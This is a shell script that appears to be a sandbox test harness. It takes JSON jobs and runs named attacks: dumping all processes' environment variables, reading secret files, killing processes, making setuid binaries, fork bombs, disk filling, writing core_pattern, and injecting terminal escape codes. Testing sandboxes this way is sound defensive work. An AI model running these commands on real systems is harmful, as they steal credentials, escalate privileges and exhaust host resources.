# Attacks in a shell: the name and what it needs are taken from the line of the job.

member() { # of the data, a text or a number
  rest=${job#*"\"$1\":"}
  rest=${rest#\"}
  rest=${rest%%[\",\}]*}
  printf %s "$rest"
}

hold() {
  id=${job#*'"id":"'}
  printf '{"sandq":1,"type":"log","id":"%s","message":"holding"}\n' "${id%%'"'*}"
  sleep "${1:-0.4}"
}

ok() { printf '{"status":"ok","result":"%s"}\n' "$(printf %s "$*" | tr -c '[:print:]' ' ' | tr '"\\' '  ')"; }

refused() {
  words=$(printf %s "$*" | tr -c '[:print:]' ' ' | tr '"\\' '  ')
  printf '{"status":"error","error":{"type":"PermissionError","message":"%s"}}\n' "$words"
}

# run a command: its output is the answer
try() { if told=$("$@" 2>&1); then ok "$told"; else refused "$told"; fi; }

environments() {
  for file in /proc/[0-9]*/environ; do tr '\0' ' ' <"$file"; done 2>/dev/null | head -c 200000
}

daemon() { setsid sh -c "sleep 30; : $token" </dev/null >/dev/null 2>&1 & sleep 0.05; }

bomb() {
  count=0
  while [ $count -lt "$(member pids)" ]; do
    sleep 4 &
    count=$((count + 1))
  done
}

fill() { dd if=/dev/zero of="$room/$token" bs=1M count="$1" 2>&1; }

attack() {
  case $1 in
    read_file) try cat "$secret_file" ;;
    read_file_through_roots) try sh -c "cat /proc/[0-9]*/./root$secret_file" ;;
    read_environments) try environments ;;
    read_environment_of_pid_1) try sh -c "tr '\\0' ' ' </proc/1/environ; tr '\\0' ' ' </proc/$PPID/environ" ;;
    kill_a_process) try kill -9 "$(member victim)" ;;
    write_file) try sh -c "echo $token >$(member folder)/$token" ;;
    write_to_its_own_program) try sh -c "echo '# $token' >>$0" ;;
    make_a_setuid_program)
      try sh -c "cp /bin/true $(member folder)/$token && chmod 6755 $(member folder)/$token" ;;
    daemon) daemon; ok left ;;
    background) sh -c "sleep 30; : $token" </dev/null >/dev/null 2>&1 & ok left ;;
    fork_bomb) bomb 2>/dev/null; hold 1; ok held ;;
    fill_the_disk) if told=$(fill "$(($(member disk) / 1048576))"); then hold 1; ok held; else refused "$told"; fi
      rm -f "$room/$token" ;;
    raise_limits) ulimit -H -u unlimited 2>/dev/null && ulimit -u unlimited && bomb; hold 1; ok held ;;
    new_user_namespace)
      exec 8</proc/self/ns/user
      unshare -U sh -c "exec 9</proc/self/ns/user; sleep 0.8" 2>/dev/null &
      sleep 0.3; hold; if wait $!; then ok held; else refused unshare; fi
      exec 8<&- ;;
    write_core_pattern)
      if (exec 8<>/proc/sys/kernel/core_pattern) 2>/dev/null; then
        exec 8<>/proc/sys/kernel/core_pattern; hold; exec 8<&-; ok open
      else refused read-only; fi ;;
    two_answers) ok first; ok second ;;
    half_a_line) printf '{"status":"ok","res'; exit 0 ;;
    pose_as_out_of_memory) echo 'Out of memory: Killed process' >&2; kill -9 $$ ;;
    colours_in_the_log) printf '\033[2J\033]0;owned\007\233\n' >&2; ok "$(printf '\033[31m')" ;;
    *) refused "no such attack: $1" ;;
  esac
}

while IFS= read -r job; do
  token=$(member token)
  secret_file=$(member secret_file)
  room=$(member room)
  [ -w "$room" ] || room=/tmp
  attack "$(member attack)"
done
